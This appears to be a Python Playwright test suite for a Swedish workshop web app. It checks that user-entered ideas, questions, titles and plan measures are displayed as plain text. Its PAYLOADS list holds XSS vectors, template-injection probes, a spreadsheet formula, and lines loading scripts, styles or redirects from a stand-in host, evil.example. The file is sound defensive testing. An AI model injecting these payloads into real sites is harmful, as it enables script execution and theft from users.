"""What people write is text: it runs nothing, asks for nothing and is shown as it was written."""

import pytest
from playwright.sync_api import Page, expect

from tests.browser import room as rooms
from tests.browser.conftest import Visits
from tests.browser.room import House, Room
from workshop.ground.db import new_id
from workshop.ground.hyphens import NO_BREAK, SOFT
from workshop.plan import actions as plan

pytestmark = pytest.mark.browser
PAYLOADS = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    '"><img src=//evil.example/x onerror=window.ran=1>',
    "'><script src=//evil.example/x.js></script>",
    "</textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "<iframe src=javascript:window.ran=1></iframe>",
    "<a href=javascript:window.ran=1>klicka</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Skicka</button></form>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "&lt;b&gt; &#60;script&#62; &amp;amp;",
    "<div id=fragment data-rev=999999></div><input name=csrf_token>",
    '=HYPERLINK("//evil.example/") 👩🏽‍💻 مرحبا שלום',
)


@pytest.fixture(scope="module")
def room(house: House) -> Room:
    room = rooms.make(house, title=" ".join(PAYLOADS)[:160])
    room.fill()
    return room


def untouched(*pages: Page) -> None:
    for page in pages:
        assert page.evaluate("window.ran") is None
        assert page.evaluate("document.querySelectorAll('#fragment').length") <= 1


def listed(page: Page, selector: str) -> list[str]:
    found: list[str] = page.locator(selector).evaluate_all("(all) => all.map((e) => e.textContent)")
    return found


def test_twenty_ideas_are_shown_as_written(visits: Visits, room: Room) -> None:
    """Pushed, and drawn on reload."""
    moment = room.show("ideas")
    stage, phone, desk = visits.stage(room), visits.phone(room), visits.desk(room)
    for sent, payload in enumerate(PAYLOADS, 1):
        phone.get_by_label("Din idé").fill(payload)
        phone.get_by_role("button", name="Skicka idén").click()
        expect(phone.get_by_label("Din idé")).to_have_value("")
        expect(desk.locator("#cards .idea")).to_have_count(sent)
    room.lead().command(f"/kort/alla/{moment.id}")
    expect(phone.locator(".cards li")).to_have_count(len(PAYLOADS))
    pushed = listed(phone, ".cards li"), listed(desk, "#cards .idea > p")
    assert [sorted(texts) for texts in pushed] == [sorted(PAYLOADS)] * 2
    phone.reload()
    assert listed(phone, ".cards li") == pushed[0]
    assert sorted(page_by_page(stage, room)) == sorted(PAYLOADS)
    untouched(stage, phone, desk)


def page_by_page(stage: Page, room: Room) -> list[str]:
    """All that the stage shows of the moment's ideas, page by page; each pushed and reloaded."""
    seen: list[str] = []
    for number in range(1, 20):
        room.lead().command(f"/led/sida/{room.now().id}/wall/{number}")
        expect(stage.locator("#fragment")).to_have_attribute("data-rev", str(room.about.rev))
        fits = cards_on(stage)
        stage.reload()
        assert cards_on(stage) == fits != []
        if fits[0] in seen:
            break  # there is no such page: the first is shown
        seen += fits
    return seen


def cards_on(stage: Page) -> list[str]:
    """The cards without their numbers."""
    found: list[str] = stage.locator(".cards li").evaluate_all("(all) => all.map((e) => e.lastChild.textContent)")
    return [text.removesuffix("\n").replace(SOFT, "").replace(NO_BREAK, "") for text in found]


def test_twenty_questions_are_asked_as_written(visits: Visits, room: Room) -> None:
    stage, phone, desk = visits.stage(room), visits.phone(room), visits.desk(room)
    for payload in PAYLOADS:
        room.lead().ask(payload, [payload, "Annat"])
        expect(phone.locator("legend h1")).to_have_text(payload, use_inner_text=False)
        expect(stage.locator(".slide h1")).to_have_text(payload)
        assert listed(phone, "#send label.choice span") == [payload, "Annat"]
    phone.reload()
    expect(phone.locator("legend h1")).to_have_text(PAYLOADS[-1])
    assert room.now().title == PAYLOADS[-1]
    untouched(stage, phone, desk)


def test_a_hostile_title_is_a_title_everywhere(visits: Visits, room: Room) -> None:
    title = room.about.title
    desk, phone = visits.desk(room, "/"), visits.phone(room, "/din-kod")
    assert desk.locator("h1").text_content() == title
    assert desk.title() == f"{title} – Kompetenslyft"
    assert title in (phone.locator("header").text_content() or "")
    for place in ("/korschema", "/plan", "/uppgifter", "/medlemmar", "/led", "/plan/forhandsvisning", "/avsluta"):
        desk.goto(room.desk + place)
        untouched(desk)
    untouched(phone)


def test_measures_are_shown_as_written(visits: Visits, room: Room) -> None:
    """Every payload in every field of words, in the list, the preview and on the stage."""
    texts = ("committee", "money_note", "benefit", "indicator", "follow_up", "first_step", "children")
    words = ("what", "responsible", *texts)
    last = [moment for moment in room.moments("measures") if not moment.theme_key][-1]
    room.lead().show(last.id)
    stage = visits.stage(room)
    for payload in PAYLOADS:
        written = dict.fromkeys(words, payload) | {"theme_key": "", "money": "askas"}
        room.house.database.act(plan.add, room.workshop, new_id(), written)
        stage.reload()
        assert listed(stage, ".slide tbody th")[-1] == payload
    desk = visits.desk(room, "/plan")
    assert [text.partition(" ")[2] for text in listed(desk, ".measures h3")] == list(PAYLOADS)
    untouched(stage, desk)
    desk.goto(room.desk + "/plan/forhandsvisning")
    page = desk.locator("article").text_content() or ""
    assert [payload for payload in PAYLOADS if payload not in page] == []
    untouched(desk)
